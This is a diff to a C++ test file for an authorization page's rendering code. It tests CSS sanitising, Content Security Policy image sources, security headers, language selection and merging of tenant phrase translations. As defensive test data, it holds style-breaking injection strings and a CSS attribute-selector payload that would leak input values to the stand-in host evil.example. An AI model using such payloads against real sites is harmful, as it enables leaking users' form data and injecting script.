@@ -55,16 +55,33 @@ TEST_CASE("to_style takes only hexadecimal colours") {
   }
 }
 
-TEST_CASE("to_style refuses CSS that could end its element") {
+TEST_CASE("to_style keeps CSS from ending its element") {
   CHECK(to_style({{"customCss", "a{color:red}"}}) == "\na{color:red}");
-  for (const auto* css : {"a{}</style><script>", "</", "<!--", "a{}</STYLE>"}) {
-    CHECK(to_style({{"customCss", css}}).empty());
+  for (const auto* css : {"a{}</style><script>", "</", "<</style", "a{}</STYLE>"}) {
+    CHECK(to_style({{"customCss", css}}).find("</") == std::string::npos);
   }
+  CHECK(
+      to_style({{"customCss", "a{background:url('data:image/svg+xml,<svg></svg>')}"}}) ==
+      "\na{background:url('data:image/svg+xml,<svg><\\/svg>')}"
+  );
+}
+
+TEST_CASE("image_sources lets CSS of the tenant's own load nothing but what the settings name") {
+  using Words = std::vector<std::string>;
+  json::object document{{"branding", {{"logoUrl", "https://cdn.example/logo.png?v=1"}}}};
+  CHECK(image_sources(document, {}) == Words{"https:"});
+  document["customCss"] = "input[value^=a]{background:url(https://evil.example/a)}";
+  CHECK(
+      image_sources(document, {"https://a.example/;x", "javascript:x", "x"}) ==
+      Words{"https://a.example", "https://cdn.example/logo.png"}
+  );
+  document["customCss"] = nullptr;
+  CHECK(image_sources(document, {}) == Words{"https:"});
 }
 
 TEST_CASE("to_content_security_policy lets nothing foreign run") {
   CHECK(
-      to_content_security_policy("n0nce") ==
+      to_content_security_policy({.nonce = "n0nce", .image_sources = {"https:"}}) ==
       "default-src 'none'; script-src 'nonce-n0nce' 'self'; style-src 'nonce-n0nce' 'self'; "
       "img-src 'self' data: https:; connect-src 'self'; form-action 'self'; base-uri 'none'; "
       "frame-ancestors 'none'"
@@ -72,7 +89,7 @@ TEST_CASE("to_content_security_policy lets nothing foreign run") {
 }
 
 TEST_CASE("answer_page carries the headers of an authorization page") {
-  const auto response = answer_page(200, "<p>", "n");
+  const auto response = answer_page(200, "<p>", {.nonce = "n", .image_sources = {}});
   CHECK(*response.find("x-frame-options") == "DENY");
   CHECK(*response.find("referrer-policy") == "no-referrer");
   CHECK(*response.find("cross-origin-opener-policy") == "same-origin");
@@ -84,12 +101,59 @@ TEST_CASE("pick_page_language asks the dialogue, then the browser, then the tena
   http::Request request;
   request.headers.push_back({"accept-language", "ko"});
   SignInExperience settings;
-  CHECK(pick_page_language("fr en", request, settings) == Language::en);
-  CHECK(pick_page_language("", request, settings) == Language::ko);
+  CHECK(pick_page_language("fr en", request, {}, settings) == "en");
+  CHECK(pick_page_language("", request, {}, settings) == "ko");
   settings.auto_detect_language = false;
-  CHECK(pick_page_language("", request, settings) == Language::en);
+  CHECK(pick_page_language("", request, {}, settings) == "en");
   settings.fallback_language = "ko-KR";
-  CHECK(pick_page_language("", http::Request{}, settings) == Language::ko);
+  CHECK(pick_page_language("", http::Request{}, {}, settings) == "ko");
+}
+
+TEST_CASE("pick_page_language knows the languages that the tenant brings") {
+  http::Request request;
+  request.headers.push_back({"accept-language", "fr-CA, ko;q=0.5"});
+  SignInExperience settings;
+  const std::vector<CustomPhrases> custom{{.language_tag = "fr"}, {.language_tag = "ko-KR"}};
+  CHECK(pick_page_language("", request, {}, settings) == "ko");
+  CHECK(pick_page_language("", request, custom, settings) == "fr");
+  CHECK(pick_page_language("ko-KR", request, custom, settings) == "ko-KR");
+  CHECK(pick_page_language("ko", request, custom, settings) == "ko");
+  settings.auto_detect_language = false;
+  settings.fallback_language = "fr";
+  CHECK(pick_page_language("", request, custom, settings) == "fr");
+}
+
+TEST_CASE("phrases_json lays the tenant's texts over those of the server") {
+  const http::StaticFile files[] = {
+      {"/phrases/en.json",
+       "application/json",
+       R"({"signIn":{"button":"Sign in","headline":"Hello"},"field":{"username":"Username"}})",
+       "",
+       "\"1\""},
+      {"/phrases/ko.json", "application/json", R"({"signIn":{"button":"로그인"}})", "", "\"2\""},
+  };
+  const SignInExperience settings;
+  const auto texts = [&](const char* tag, const char* translation) {
+    const std::vector<CustomPhrases> custom{
+        {.language_tag = tag, .translation = json::parse(translation).as_object()}};
+    return phrases_json(files, tag, custom, settings);
+  };
+  CHECK(phrases_json(files, "ko", {}, settings) == R"({"signIn":{"button":"로그인"}})");
+  CHECK(
+      texts("fr", R"({"signIn":{"button":"Connexion"},"more":{"a":{"b":"c"}}})") ==
+      R"({"signIn":{"button":"Connexion","headline":"Hello"},"field":{"username":"Username"},)"
+      R"("more":{"a":{"b":"c"}}})"
+  );
+  CHECK(
+      texts("ko-KR", R"({"signIn":{"button":"들어가기"}})") == R"({"signIn":{"button":"들어가기"}})"
+  );
+  // Logto's keys stand for ours; what does not fit is left out.
+  CHECK(
+      texts(
+          "en", R"({"action":{"sign_in":"Enter"},"signIn":{"headline":{"a":"b"}},"field":"x"})"
+      ) == R"({"signIn":{"button":"Enter","headline":"Hello"},"field":{"username":"Username"},)"
+           R"("action":{"sign_in":"Enter"}})"
+  );
 }
 
 }  // namespace daemun::experience
